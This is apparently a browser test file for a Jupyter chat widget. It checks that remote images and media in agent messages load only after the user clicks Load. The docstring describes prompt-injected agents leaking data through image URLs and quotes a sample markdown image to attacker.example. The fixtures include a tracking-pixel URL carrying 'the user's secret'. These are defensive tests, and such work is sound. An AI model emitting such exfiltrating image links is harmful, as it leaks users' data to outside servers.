"""Remote content by consent: agent-chosen http(s) images and media make no request until the user clicks Load.

A prompt-injected agent could otherwise send what it read to any server through an image URL
(``![](https://attacker.example/?q=...)``) or GET the Jupyter server's own URLs. Every request the page makes is
recorded here (the harness routes the rest of the world to nowhere); ``data:`` and ``blob:`` URLs are not requests.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from tests.browser.chat_samples import png_data_url, wav_data_url

pytestmark = pytest.mark.browser

PNG = base64.b64decode(png_data_url().split(",", 1)[1])


class Urls:
    """The remote URLs of one test, unique to it: the page's image cache would answer a URL seen before."""

    def __init__(self, test: str) -> None:
        self.cat = f"https://images.example/cat.png?{test}"
        self.chart = f"https://images.example/chart.png?{test}"
        self.jupyter = (
            f"http://127.0.0.1:8888/api/contents?token=secret&{test}"  # the Jupyter server's own API
        )
        self.same_origin = f"http://127.0.0.1:8711/files/secret.png?{test}"  # the page's own origin
        self.song = f"https://media.example/song.mp3?{test}"
        self.clip = f"https://media.example/clip.mp4?{test}"
        self.thought = f"https://media.example/thought.png?{test}"
        self.pixel = f"https://attacker.example/pixel.gif?q=the+user%27s+secret&{test}"


@pytest.fixture
def urls(request) -> Urls:
    return Urls(request.node.name)


def remote_message(urls: Urls) -> dict:
    markdown = (
        f"Here is a cat: ![a cat]({urls.cat}) and a [link to the docs](https://docs.example/guide).\n\n"
        f'<img src="{urls.jupyter}" alt="notebook list">\n\n'
        f"![]({urls.same_origin})\n\n"
        f"Tracking pixel: ![]({urls.pixel})"
    )
    return {
        "id": "a1",
        "role": "assistant",
        "parts": [
            {"type": "text", "text": markdown, "state": "done"},
            {"type": "file", "mediaType": "image/png", "filename": "chart.png", "url": urls.chart},
            {"type": "file", "mediaType": "audio/mpeg", "filename": "song.mp3", "url": urls.song},
            {"type": "file", "mediaType": "video/mp4", "url": urls.clip},
            {"type": "reasoning-file", "mediaType": "image/png", "url": urls.thought},
            {"type": "data-media", "data": {"url": urls.pixel, "mediaType": "image/gif"}},
            {"type": "source-url", "sourceId": "s1", "url": "https://docs.example/source", "title": "Docs"},
            # data: URLs make no request and still show at once.
            {"type": "file", "mediaType": "image/png", "filename": "local.png", "url": png_data_url()},
            {"type": "file", "mediaType": "audio/wav", "url": wav_data_url()},
        ],
    }


@contextmanager
def recorded_requests(chat) -> Iterator[list[str]]:
    """Every URL the page requests while the block runs (images are served for images.example)."""
    seen: list[str] = []

    def record(request) -> None:
        if not request.url.startswith(("data:", "blob:")):
            seen.append(request.url)

    def serve(route) -> None:
        route.fulfill(status=200, content_type="image/png", body=PNG)

    chat.page.on("request", record)
    chat.page.route("https://images.example/**", serve)
    try:
        yield seen
    finally:
        chat.page.unroute("https://images.example/**", serve)
        chat.page.remove_listener("request", record)


def settle(chat, widget) -> None:
    """Scroll every part into view and give lazy images, media and timers time to start."""
    widget.root.evaluate(
        """async (root) => {
        for (const el of root.querySelectorAll('[data-part-type]')) el.scrollIntoView();
        await new Promise((resolve) => setTimeout(resolve, 300));
      }"""
    )
    chat.frames()
    chat.page.wait_for_timeout(300)  # lets Playwright deliver the request events that are on their way


def placeholders(widget):
    return widget.locator("[data-agui=remote-media]")


def test_no_remote_media_loads_before_a_click_and_a_click_loads_exactly_that_one(chat, urls):
    with recorded_requests(chat) as requests:
        widget = chat.open(messages=[remote_message(urls)], height="auto")
        settle(chat, widget)
        assert requests == []
        origins = placeholders(widget).evaluate_all(
            "(els) => els.map((e) => [e.dataset.kind, e.dataset.origin])"
        )
        assert origins == [
            ["image", "https://images.example"],
            ["image", "http://127.0.0.1:8888"],
            ["image", "http://127.0.0.1:8711"],
            ["image", "https://attacker.example"],
            ["image", "https://images.example"],
            ["audio", "https://media.example"],
            ["video", "https://media.example"],
            ["image", "https://media.example"],
        ]
        assert widget.locator("img[src^='http'], audio[src^='http'], video[src^='http']").count() == 0
        # What the placeholder says: the name (alt text or file name) and where the request would go.
        cat = placeholders(widget).nth(0)
        assert cat.locator(".agui-remote-name").inner_text() == "a cat"
        assert cat.locator(".agui-remote-origin").inner_text() == "https://images.example"
        chart = widget.locator("[data-part-type=file]").nth(0)
        assert chart.get_attribute("data-preview") == "remote"
        assert chart.locator(".agui-remote-name").inner_text() == "chart.png"
        assert chart.locator(".agui-remote-origin").inner_text() == "https://images.example"
        # Links and data: media work as before.
        assert widget.locator("a[href='https://docs.example/guide'][target=_blank]").count() == 1
        assert (
            widget.locator("[data-part-type=source-url] a").get_attribute("href")
            == "https://docs.example/source"
        )
        assert widget.locator("img[src^='data:image/png']").count() == 1
        assert widget.locator("audio[src^='data:audio/wav']").count() == 1

        chart.locator("[data-agui=load-remote]").click()
        settle(chat, widget)
        assert requests == [urls.chart]
        image = chart.locator("img.agui-file-image")
        assert image.get_attribute("src") == urls.chart
        assert image.evaluate("(img) => img.complete && img.naturalWidth") == 96
        assert chart.get_attribute("data-preview") == "image"
        assert chart.locator(".agui-file-caption").inner_text() == "chart.png"
        assert placeholders(widget).count() == 7

        cat.locator("[data-agui=load-remote]").click()
        settle(chat, widget)
        assert requests == [urls.chart, urls.cat]
        loaded = widget.locator(f"[data-part-type=text] img[src='{urls.cat}']")
        assert loaded.get_attribute("alt") == "a cat"
        assert loaded.get_attribute("referrerpolicy") == "no-referrer"
        assert placeholders(widget).count() == 6


def test_media_from_trusted_origins_load_at_once(chat, urls):
    with recorded_requests(chat) as requests:
        # Any URL names its origin; entries that are not http(s) URLs are ignored.
        widget = chat.open(
            messages=[remote_message(urls)],
            height="auto",
            trusted_origins=["https://images.example/some/path", "not a url", "data:image/png,"],
        )
        settle(chat, widget)
        assert sorted(requests) == sorted([urls.chart, urls.cat])
        assert widget.locator(f"img[src='{urls.cat}']").count() == 1
        assert widget.locator(f"img[src='{urls.chart}']").count() == 1
        kinds = placeholders(widget).evaluate_all("(els) => els.map((e) => e.dataset.origin)")
        assert "https://images.example" not in kinds
        assert len(kinds) == 6


def test_a_loaded_image_stays_loaded_while_its_block_streams(chat, urls):
    with recorded_requests(chat) as requests:
        widget = chat.open(
            messages=[
                {
                    "id": "a",
                    "role": "assistant",
                    "parts": [{"type": "text", "text": f"Look: ![a cat]({urls.cat})", "state": "streaming"}],
                }
            ]
        )
        placeholders(widget).locator("[data-agui=load-remote]").click()
        for seq, delta in enumerate([" it", " sits", " on", " a", " mat."], start=1):
            widget.deliver({"kind": "patch", "seq": seq, "ops": [["t", 0, 0, delta]]})
        settle(chat, widget)
        assert placeholders(widget).count() == 0
        assert widget.locator(f"img[src='{urls.cat}']").count() == 1
        assert widget.locator("[data-part-type=text]").inner_text() == "Look:  it sits on a mat."
        assert set(requests) == {urls.cat}


def test_loading_an_image_inside_a_link_does_not_follow_the_link(chat, urls):
    text = f"[![build passing]({urls.cat})](https://ci.example/build/1)"
    with recorded_requests(chat) as requests:
        widget = chat.open(
            messages=[{"id": "a", "role": "assistant", "parts": [{"type": "text", "text": text}]}]
        )
        link = widget.locator("a[href='https://ci.example/build/1']")
        assert link.locator("[data-agui=remote-media]").count() == 1
        link.locator("[data-agui=load-remote]").click()
        settle(chat, widget)
        assert requests == [urls.cat]
        assert link.locator(f"img[src='{urls.cat}']").count() == 1
    assert chat.events.popups == [] and chat.events.navigations == []


def test_the_load_button_is_a_real_button(chat, urls):
    widget = chat.open(messages=[remote_message(urls)])
    button = placeholders(widget).first.locator("[data-agui=load-remote]")
    assert button.evaluate("(b) => [b.tagName, b.type]") == ["BUTTON", "button"]
    assert button.get_attribute("aria-label") == "Load this image from https://images.example"
    title = placeholders(widget).first.get_attribute("title")
    assert title == f"Image not loaded: {urls.cat}\nLoading it sends a request to https://images.example."


def screenshot_messages(urls: Urls) -> list[dict]:
    return [
        {"id": "u", "role": "user", "parts": [{"type": "text", "text": "Show me the chart and the cat."}]},
        {
            "id": "a",
            "role": "assistant",
            "parts": [
                {
                    "type": "text",
                    "text": f"Here is the cat you asked for: ![a ginger cat on a mat]({urls.cat}), and the chart:",
                    "state": "done",
                },
                {
                    "type": "file",
                    "mediaType": "image/png",
                    "filename": "quarterly-revenue.png",
                    "url": urls.chart,
                },
                {"type": "file", "mediaType": "audio/mpeg", "filename": "briefing.mp3", "url": urls.song},
            ],
        },
        {
            "id": "b",
            "role": "assistant",
            "parts": [{"type": "text", "text": "A quote:\n\n" + "> " * 40 + "far too deep", "state": "done"}],
        },
    ]


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_placeholder_and_fallback_screenshots_at_360px(open_chat, artifacts_dir, theme, urls):
    chat = open_chat(theme, width=360, height=900)
    widget = chat.open(messages=screenshot_messages(urls), height="auto")
    chat.frames()
    overflowing = widget.root.evaluate(
        "(root) => [...root.querySelectorAll('.agui-remote, .agui-remote *, .agui-md-fallback, .agui-md-fallback *')]"
        ".filter((e) => e.getBoundingClientRect().right > root.getBoundingClientRect().right - 8).length"
    )
    assert overflowing == 0
    assert placeholders(widget).count() == 3
    assert widget.locator("[data-agui=markdown-fallback]").count() == 1
    path = artifacts_dir / f"chat-remote-content-{theme}-360.png"
    widget.root.screenshot(path=str(path), animations="disabled")
    assert path.stat().st_size > 10_000


def test_trusted_origins_is_a_synced_trait_of_the_python_widget():
    from agui_notebook import ChatWidget

    chat = ChatWidget(trusted_origins=["https://images.example"])
    assert chat.trusted_origins == ["https://images.example"]
    assert chat.get_state()["trusted_origins"] == ["https://images.example"]
    assert ChatWidget().trusted_origins == []
